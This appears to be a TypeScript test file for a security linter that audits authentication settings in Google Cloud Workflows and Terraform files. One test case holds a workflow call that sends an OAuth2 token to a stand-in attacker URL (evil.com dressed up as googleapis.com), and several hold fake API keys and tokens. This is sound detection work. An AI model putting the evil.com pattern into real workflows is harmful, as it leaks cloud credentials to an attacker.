import assert from "node:assert/strict";
import { auditFile, auditRules, injectFile, type AuditOptions } from "../../../../workflow/auth";

const options: AuditOptions = {
    targets: [
        { name: "orders", kind: "run", urlVariable: "ORDERS_URL" },
        {
            name: "console",
            kind: "iap",
            url: "https://console.example.com",
            audience: "1-a.apps.googleusercontent.com",
        },
        {
            name: "pay",
            kind: "external",
            url: "https://pay.example",
            secret: { header: "X-Key", version: "projects/p/secrets/s/versions/1" },
        },
    ],
};

/** Rule and severity of what is found in a call with these `args`. */
function found(...args: string[]): string[] {
    const lines = ["main:", "  params: [args]", "  steps:", "  - ask:", "      call: http.post", "      args:"];
    return audit([...lines, ...args.map((a) => `        ${a}`), ""].join("\n"));
}

function audit(source: string, more: AuditOptions = {}): string[] {
    const { findings, diagnostics } = auditFile(source, "w.yaml", { ...options, ...more });
    assert.deepEqual(diagnostics, []);
    return findings.map(({ rule, severity }) => `${severity} ${rule}`);
}

const run = "url: https://a-uc.a.run.app/x";
const api = "url: https://compute.googleapis.com/x";

/** Each rule beside what it must let pass. */
const cases: [rule: string, bad: string[], good: string[]][] = [
    ["error missing-auth", [run], [run, "auth: {type: OIDC, audience: https://a-uc.a.run.app}"]],
    ["error missing-auth", [api], [api, "auth: {type: OAuth2}"]],
    [
        "error missing-auth",
        ["url: https://pay.example/x"],
        ["url: https://pay.example/x", "headers: {x-key: '${args.k}'}"],
    ],
    ["error missing-auth", [api, "headers: {A: b}"], [api, "query: {key: '${args.key}'}"]],
    ["error wrong-auth-type", [run, "auth: {type: OAuth2}"], [api, "auth: {type: OAuth2}"]],
    ["error wrong-auth-type", [api, "auth: {type: OIDC}"], ["url: https://a-uc.a.run.app", "auth: {type: OIDC}"]],
    [
        "error wrong-auth-type",
        ["url: https://console.example.com", "auth: {type: OAuth2}"],
        ["url: https://console.example.com", "auth: {type: OIDC, audience: 1-a.apps.googleusercontent.com}"],
    ],
    [
        "error token-leak",
        ["url: https://evil.com/.googleapis.com", "auth: {type: OAuth2}"],
        ["url: https://evil.com/.googleapis.com"],
    ],
    [
        "error token-leak",
        ['url: ${"https://" + args.r + "-aiplatform.googleapis.com/"}', "auth: {type: OAuth2}"],
        [
            'url: ${"https://" + sys.get_env("GOOGLE_CLOUD_LOCATION") + "-aiplatform.googleapis.com/"}',
            "auth: {type: OAuth2}",
        ],
    ],
    [
        "warning token-leak",
        ['url: ${json.decode(sys.get_env("U")).x}', "auth: {type: OAuth2}"],
        [api, "auth: {type: OAuth2}"],
    ],
    [
        "warning id-token-elsewhere",
        ["url: https://b.example/", "auth: {type: OIDC}"],
        ['url: ${sys.get_env("ORDERS_URL")}', "auth: {type: OIDC}"],
    ],
    [
        "error insecure-scheme",
        ["url: http://a-uc.a.run.app", "auth: {type: OIDC, audience: https://a-uc.a.run.app}"],
        ["url: https://a-uc.a.run.app", "auth: {type: OIDC, audience: https://a-uc.a.run.app}"],
    ],
    ["warning insecure-scheme", ["url: http://b.example"], ["url: https://b.example"]],
    ["warning audience-path", [run, "auth: {type: OIDC}"], ["url: https://a-uc.a.run.app/", "auth: {type: OIDC}"]],
    [
        "warning audience-path",
        [run, "auth: {type: OIDC, audience: https://a-uc.a.run.app/x}"],
        [run, "auth: {type: OIDC, audience: https://a-uc.a.run.app/}"],
    ],
    [
        "error audience-path",
        ["url: https://console.example.com/x", "auth: {type: OIDC}"],
        ["url: https://console.example.com/x", "auth: {type: OIDC, audience: 1-a.apps.googleusercontent.com}"],
    ],
    [
        "error audience-mismatch",
        [run, "auth: {type: OIDC, audience: https://b-uc.a.run.app}"],
        [
            "url: https://a-abcdefghij-uc.a.run.app/x",
            "auth: {type: OIDC, audience: https://a-1234567.us-central1.run.app}",
        ],
    ],
    [
        "error audience-mismatch",
        [
            "url: https://r-p.cloudfunctions.net/fn",
            "auth: {type: OIDC, audience: https://r-p.cloudfunctions.net/other}",
        ],
        ["url: https://r-p.cloudfunctions.net/fn", "auth: {type: OIDC, audience: https://fn-abcdefghij-uc.a.run.app}"],
    ],
    ["warning unknown-host", ["url: ${args.url}"], ["url: https://b.example"]],
    [
        "info manual-bearer",
        [run, "headers: {authorization: '${args.t}'}"],
        ["url: https://b.example", "headers: {authorization: '${args.t}'}"],
    ],
    [
        "error double-auth",
        [api, "auth: {type: OAuth2}", "headers: {Authorization: '${args.t}'}"],
        [api, "auth: {type: OAuth2}", "headers: {X-Other: '${args.t}'}"],
    ],
    ["error invalid-auth", [run, "auth: {type: oidc}"], ["url: https://a-uc.a.run.app", "auth: {type: OIDC}"]],
    ["error invalid-auth", [run, "auth: null"], ["url: https://b.example"]],
    ["error invalid-auth", [run, "auth: {audience: x}"], ["url: https://b.example"]],
    ["error invalid-auth", [run, "auth: OIDC"], ["url: https://a-uc.a.run.app", "auth: {type: OIDC}"]],
    [
        "warning invalid-auth",
        [api, 'auth: \'${if(args.a, {"type": "OIDC"}, {"type": "OAuth2"})}\''],
        [api, 'auth: \'${if(args.a, {"type": "OAuth2"}, {"type": "OAuth2"})}\''],
    ],
    [
        "error invalid-auth",
        [api, "auth: {type: OAuth2, scope: email, scopes: openid}"],
        [api, "auth: {type: OAuth2, scopes: openid}"],
    ],
    ["error invalid-auth", [api, "auth: {type: OAuth2, audience: b}"], [api, "auth: {type: OAuth2, scope: openid}"]],
    ["warning invalid-auth", [api, "auth: '${args.auth}'"], [api, "auth: {type: OAuth2}"]],
    [
        "info broad-scope",
        [api, "auth: {type: OAuth2, scopes: https://www.googleapis.com/auth/cloud-platform}"],
        [api, "auth: {type: OAuth2, scopes: https://www.googleapis.com/auth/compute}"],
    ],
    [
        "error credential-literal",
        ["url: https://b.example", `headers: {X-Api-Key: AIza${"b".repeat(35)}}`],
        ["url: https://b.example", "headers: {X-Api-Key: '${args.key}'}"],
    ],
    [
        "error credential-literal",
        ["url: https://b.example", "body: {client_secret: 8a7d6f5e4c3b2a190f}"],
        ["url: https://b.example", "body: {client_secret: '${args.secret}'}"],
    ],
    [
        "warning public-invoker",
        ["url: https://b.example", "body: {policy: {bindings: [{role: roles/run.invoker, members: [allUsers]}]}}"],
        [
            "url: https://b.example",
            "body: {policy: {bindings: [{role: roles/run.invoker, members: ['serviceAccount:a@b']}]}}",
        ],
    ],
    [
        "info placeholder",
        ["url: https://b.example", "body: {project: YOUR_PROJECT}"],
        ["url: https://b.example", "body: {kind: PERSISTENT}"],
    ],
];

describe("the rules of the audit", () => {
    for (const [expected, bad, good] of cases) {
        it(`finds ${expected} in {${bad.join(", ")}}, and nothing in {${good.join(", ")}}`, () => {
            assert.deepEqual(found(...bad), [expected]);
            assert.deepEqual(found(...good), []);
        });
    }

    it("does not show the credential that it found", () => {
        const secret = `ya29.${"s3cret".repeat(6)}`;
        const source = `main: {steps: [{a: {assign: [t: ${secret}]}}]}\n`;
        assert.deepEqual(audit(source), ["error credential-literal"]);
        assert.ok(!JSON.stringify(auditFile(source, "w.yaml")).includes("s3cret"));
    });

    it("takes severities from the options, and off", () => {
        const source = "main: {steps: [{a: {call: http.get, args: {url: http://b.example}}}]}\n";
        assert.deepEqual(audit(source, { rules: { "insecure-scheme": "error" } }), ["error insecure-scheme"]);
        assert.deepEqual(audit(source, { rules: { "insecure-scheme": "off" } }), []);
    });

    it("keeps quiet where a comment on the line above gives a reason, and only there", () => {
        const source = (comment: string): string =>
            `main:\n  steps:\n  - a:\n      call: http.get\n      args:\n        ${comment}\n        url: http://b.example\n`;
        assert.deepEqual(audit(source("# gcp-invoke-ignore insecure-scheme: inside the VPC")), []);
        assert.deepEqual(audit(source("# gcp-invoke-ignore unknown-host: inside the VPC")), [
            "warning insecure-scheme",
        ]);
        const both = ["warning ignore-without-reason", "warning insecure-scheme"];
        assert.deepEqual(audit(source("# gcp-invoke-ignore insecure-scheme")), both);
        assert.deepEqual(audit(source("# gcp-invoke-ignore no-such-rule: because")), both);
    });

    it("does not keep quiet for what looks like a comment within a text", () => {
        const text = "# gcp-invoke-ignore insecure-scheme: it is a text";
        const source = (before: string): string =>
            `main:\n  steps:\n  - a:\n      call: http.post\n      args:\n        ${before}\n        url: http://b.example\n`;
        for (const before of [
            `body: |\n          ${text}`,
            `body: >-\n          ${text}`,
            `body: "\n          ${text}\n          "`,
            `body: 'a\n          ${text}'`,
            `body: '# it''s'\n        headers: {a: "\n          ${text}"}`,
        ]) {
            assert.deepEqual(audit(source(before)), ["warning insecure-scheme"], before);
        }
        assert.deepEqual(audit(source(`body: "# a \\" b"\n        ${text}`)), []);
        assert.deepEqual(audit(source(`body: |\n          a\n        ${text}`)), []);
    });

    it("takes the name of an environment variable for no placeholder, in a call step too", () => {
        const source = (args: string): string =>
            `main:\n  steps:\n  - a: {call: sys.get_env, args: ${args}, result: u}\n  - b: {return: "\${u}"}\n`;
        assert.deepEqual(audit(source("{name: ORDERS_URL}")), []);
        assert.deepEqual(audit(source("[ORDERS_URL]")), []);
        assert.deepEqual(audit(source("{name: ORDERS_URL, default: YOUR_URL}")), ["info placeholder"]);
    });

    it("sees credentials in arguments without names", () => {
        const source = (args: string): string =>
            `main:\n  params: [args]\n  steps:\n  - a: {call: http.get, args: ${args}}\n`;
        const token = "{type: OIDC, audience: https://a-uc.a.run.app}";
        assert.deepEqual(audit(source("[https://a-uc.a.run.app/x]")), ["error missing-auth"]);
        assert.deepEqual(audit(source(`[https://a-uc.a.run.app/x, 30, {}, {}, ${token}]`)), []);
        assert.deepEqual(audit(source("[https://b.example/x, 30, null, null, null]")), []);
        assert.deepEqual(audit(source(`["\${args.url}", null, {}, {}, ${token}]`)), ["warning id-token-elsewhere"]);
        assert.deepEqual(audit(source('["${args.url}", null, {Authorization: Bearer x}]')), ["warning token-leak"]);
        const request = source(`[GET, "\${args.url}", null, null, {}, {}, ${token}]`).replace(
            "http.get",
            "http.request",
        );
        assert.deepEqual(audit(request), ["warning id-token-elsewhere"]);
    });

    it("takes another port for another server", () => {
        const at = (url: string): string[] =>
            audit(`- a: {call: http.get, args: {url: ${url}}}\n`, {
                targets: [{ name: "erp", kind: "run", url: "https://erp.example" }],
                closed: true,
            });
        assert.deepEqual(at("https://erp.example/x"), ["error missing-auth"]);
        assert.deepEqual(at("https://erp.example:443/x"), ["error missing-auth"]);
        assert.deepEqual(at("https://erp.example:8443/x"), []);
    });

    it("says what, why and what to do, in lower case and without a full stop", () => {
        for (const [, bad] of cases) {
            const lines = ["main:", "  params: [args]", "  steps:", "  - ask:", "      call: http.post", "      args:"];
            const { findings } = auditFile([...lines, ...bad.map((a) => `        ${a}`)].join("\n"), "w.yaml", options);
            for (const { rule, what, why, fix } of findings) {
                for (const sentence of [what, why, fix]) {
                    assert.match(sentence, /^[a-zA-Z].*[^.]$/s, `${rule}: ${sentence}`);
                }
            }
        }
    });

    it("has a title and a reason for each rule", () => {
        for (const { title, why } of Object.values(auditRules)) {
            assert.ok(title.length > 10 && why.length > 10);
        }
    });
});

describe("Terraform files", () => {
    const tf = (url: string): string =>
        `resource "google_workflows_workflow" "w" {\n  source_contents = <<-EOT\n  main:\n    steps:\n    - a:\n        call: http.get\n        args:\n          url: ${url}\n  EOT\n}\n`;

    it("are read heredoc by heredoc, escapes undone, at the file's own places", () => {
        const { findings, workflows } = auditFile(tf('$${"https://a-uc.a.run.app/" + sys.get_env("X")}'), "m.tf");
        assert.equal(workflows, 1);
        assert.deepEqual(
            findings.map(({ rule, span }) => [rule, span.start.line, span.start.column]),
            [["missing-auth", 8, 16]],
        );
    });

    it("may hold Terraform's own expressions, which nobody knows here", () => {
        const rules = auditFile(tf("https://${var.host}/x"), "m.tf").findings.map(({ rule }) => rule);
        assert.deepEqual(rules, ["unknown-host", "placeholder"]);
    });

    it("may hold Terraform's directives on lines of their own, in heredocs and in templates", () => {
        const template = [
            "main:",
            "  steps:",
            "%{ for name in names ~}",
            "  - call_${name}:",
            "      call: http.get",
            "      args:",
            "        url: https://a-uc.a.run.app/${name}",
            "%{ endfor ~}",
            '  - b: {return: "$${1}"}',
            "",
        ].join("\n");
        const { findings, diagnostics } = auditFile(template, "w.tftpl");
        assert.deepEqual(
            diagnostics.filter(({ severity }) => severity === "error"),
            [],
        );
        assert.deepEqual(
            findings.map(({ rule, span }) => [rule, span.start.line]),
            [
                ["missing-auth", 7],
                ["placeholder", 7],
            ],
        );
    });

    it("are injected heredoc by heredoc, with Terraform's escapes, and not a byte beside", () => {
        const declared = { targets: [{ name: "orders", kind: "run" as const, urlVariable: "ORDERS_URL" }] };
        for (const eol of ["\n", "\r\n"]) {
            const beside = "# ${left} $${alone}\n";
            const source = tf('$${sys.get_env("ORDERS_URL") + "/x"}') + beside + tf("https://b.example");
            const { text, changes } = injectFile(source.replaceAll("\n", eol), "m.tf", declared);
            const added =
                '          auth:\n            type: OIDC\n            audience: $${sys.get_env("ORDERS_URL")}\n';
            assert.equal(changes.length, 1);
            assert.equal(text, source.replace('"/x"}\n', (url) => url + added).replaceAll("\n", eol));
            assert.equal(injectFile(text, "m.tf", declared).text, text);
        }
    });
});
